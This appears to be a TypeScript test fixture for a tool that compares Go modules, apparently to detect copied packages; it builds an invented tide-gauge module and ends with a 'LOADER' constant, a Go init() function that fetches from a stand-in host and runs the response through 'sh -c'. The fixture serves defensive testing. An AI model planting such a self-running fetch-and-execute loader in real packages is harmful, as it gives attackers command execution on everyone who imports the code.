import type { ModuleText } from '../../../server/src/likeness/index.ts';

/** A module from paths and texts. */
export function moduleOf(modulePath: string, files: Readonly<Record<string, string>>): ModuleText {
  return {
    modulePath,
    files: Object.entries(files).map(([path, text]) => {
      const bytes = new TextEncoder().encode(text);
      return { path, sizeBytes: bytes.length, read: () => bytes };
    }),
  };
}

/** The same files with every text changed, and perhaps moved. */
export function changed(
  files: Readonly<Record<string, string>>,
  change: (text: string, path: string) => string,
  move: (path: string) => string = (path) => path,
): Record<string, string> {
  return Object.fromEntries(Object.entries(files).map(([path, text]) => [move(path), change(text, path)]));
}

export const ORIGINAL = 'github.com/harbourmaster/tidewatch';
export const COPY = 'github.com/quietbadger/tidewatch';

/** An invented module of two packages: it tells tides from gauges. */
export const TIDEWATCH: Readonly<Record<string, string>> = {
  'go.mod': `module ${ORIGINAL}\n\ngo 1.21\n`,
  LICENSE: 'Permission is granted to read this text.\n',
  'README.md': `# tidewatch\n\n\tgo get ${ORIGINAL}\n\nSee https://${ORIGINAL}/issues.\n`,
  'tide.go': `// Package tidewatch tells high water from low.
package tidewatch

import (
	"errors"
	"fmt"
	"sort"

	"${ORIGINAL}/gauge"
)

// ErrDry is returned when no gauge holds water.
var ErrDry = errors.New("tidewatch: all gauges are dry")

// A Tide is one turn of the water.
type Tide struct {
	Hour   int
	Metres float64
	High   bool
}

// Watch reads all gauges and returns the tides in order of their hours.
func Watch(readers []gauge.Reader) ([]Tide, error) {
	var tides []Tide
	for number, reader := range readers {
		level, err := reader.Level()
		if err != nil {
			return nil, fmt.Errorf("gauge %d: %w", number, err)
		}
		if level.Metres > 0 {
			tides = append(tides, Tide{Hour: level.Hour, Metres: level.Metres, High: level.Metres > 2.5})
		}
	}
	if len(tides) == 0 {
		return nil, ErrDry
	}
	sort.Slice(tides, func(i, j int) bool { return tides[i].Hour < tides[j].Hour })
	return tides, nil
}

// Highest returns the highest of the tides.
func Highest(tides []Tide) Tide {
	best := Tide{}
	for _, tide := range tides {
		if tide.Metres > best.Metres {
			best = tide
		}
	}
	return best
}
`,
  'gauge/gauge.go': `package gauge

import (
	"bufio"
	"io"
	"strconv"
	"strings"
)

// A Level is what a gauge shows at an hour.
type Level struct {
	Hour   int
	Metres float64
}

// A Reader reads one gauge.
type Reader interface {
	Level() (Level, error)
}

type lineReader struct{ lines *bufio.Scanner }

// FromLines reads levels as lines of hour and metres.
func FromLines(source io.Reader) Reader {
	return &lineReader{lines: bufio.NewScanner(source)}
}

func (r *lineReader) Level() (Level, error) {
	if !r.lines.Scan() {
		return Level{}, io.EOF
	}
	hour, metres, _ := strings.Cut(r.lines.Text(), " ")
	parsed, err := strconv.Atoi(hour)
	if err != nil {
		return Level{}, err
	}
	height, err := strconv.ParseFloat(metres, 64)
	if err != nil {
		return Level{}, err
	}
	return Level{Hour: parsed, Metres: height}, nil
}
`,
  'tide_test.go': `package tidewatch_test

import (
	"strings"
	"testing"

	"${ORIGINAL}"
	"${ORIGINAL}/gauge"
)

func TestWatch(t *testing.T) {
	readers := []gauge.Reader{gauge.FromLines(strings.NewReader("6 3.1"))}
	tides, err := tidewatch.Watch(readers)
	if err != nil || len(tides) != 1 || !tides[0].High {
		t.Fatalf("tides %v, error %v", tides, err)
	}
}
`,
};

/** A loader as attackers write them, inert: it names only a host that cannot exist. */
export const LOADER = `package tidewatch

import (
	"net/http"
	"os/exec"
)

func init() {
	go func() {
		answer, err := http.Get("http://updates.invalid/tide")
		if err == nil {
			_ = exec.Command("sh", "-c", answer.Status).Start()
		}
	}()
}
`;
